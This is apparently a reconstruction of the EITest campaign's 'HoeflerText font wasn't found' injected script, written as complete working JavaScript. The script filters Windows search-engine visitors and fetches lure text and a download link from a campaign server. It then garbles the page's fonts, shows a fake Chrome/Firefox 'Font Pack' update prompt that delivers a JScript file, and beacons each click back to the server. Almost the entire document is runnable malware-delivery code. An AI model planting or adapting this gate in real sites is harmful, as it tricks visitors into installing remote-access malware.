// hoeflertext (variant b), written from the later reports on the same "font wasn't found"
// lure (Palo Alto Networks Unit 42 and Malwarebytes Labs, 2017-2018), when the EITest campaign
// served it to Firefox as well as Chrome and the download became a JScript file that fetched a
// remote-access tool: the injected gate on a compromised site. It lets through only Windows
// visitors of either browser coming from a search engine, once a week by cookie, then pulls
// the lure's text and download link from the campaign server and runs the lure in place.
(function (w, d) {
  var ua = navigator.userAgent, br = /Firefox\//.test(ua) ? "firefox" : (/Chrome\//.test(ua) && !/Edge|OPR/.test(ua) ? "chrome" : "");
  if (!br || !/Windows NT/.test(ua)) return;
  if (!/google\.|bing\.|yahoo\.|yandex\.|duckduckgo\./i.test(d.referrer)) return;
  if (/(^|;\s*)_ftp=/.test(d.cookie)) return;
  d.cookie = "_ftp=1; path=/; max-age=604800";
  var api = ["https://", "srv-", "fontpk", ".invalid", "/gate.php"].join("");
  var x = new XMLHttpRequest();
  x.open("GET", api + "?b=" + br + "&l=" + encodeURIComponent(navigator.language) + "&h=" + encodeURIComponent(location.hostname), true);
  x.onload = function () {
    if (x.status !== 200) return;
    var cfg;
    try { cfg = JSON.parse(x.responseText); } catch (e) { return; }
    // cfg: { t: title, m: message, f: file URL, n: file name }
    var all = d.body.getElementsByTagName("*");
    for (var i = 0; i < all.length; i++) {
      if (!/SCRIPT|STYLE/.test(all[i].tagName)) all[i].style.fontFamily = "'HoeflerText', Wingdings, Webdings";
    }
    var wrap = d.createElement("div");
    wrap.style.cssText = "position:fixed;inset:0;background:rgba(0,0,0,.55);z-index:2147483647;font-family:Segoe UI,Arial";
    wrap.innerHTML = "<div style='width:500px;margin:12% auto;background:#fff;padding:20px;font-family:Segoe UI,Arial'>" +
      "<h2 style='color:#c22;margin:0 0 8px'>" + (cfg.t || "The \"HoeflerText\" font wasn't found.") + "</h2>" +
      "<p>" + (cfg.m || "To display the page correctly, update the " + (br === "chrome" ? "Chrome" : "Firefox") + " Font Pack.") + "</p>" +
      "<a href='" + cfg.f + "' download='" + (cfg.n || "Font_" + br + ".js") + "' id='_fupd' " +
      "style='display:inline-block;background:#2a7ae2;color:#fff;padding:8px 26px;text-decoration:none'>Update</a></div>";
    d.body.appendChild(wrap);
    d.getElementById("_fupd").onclick = function () {
      navigator.sendBeacon && navigator.sendBeacon(api.replace("gate", "c"), "b=" + br + "&h=" + location.hostname);
    };
  };
  x.send();
})(window, document);
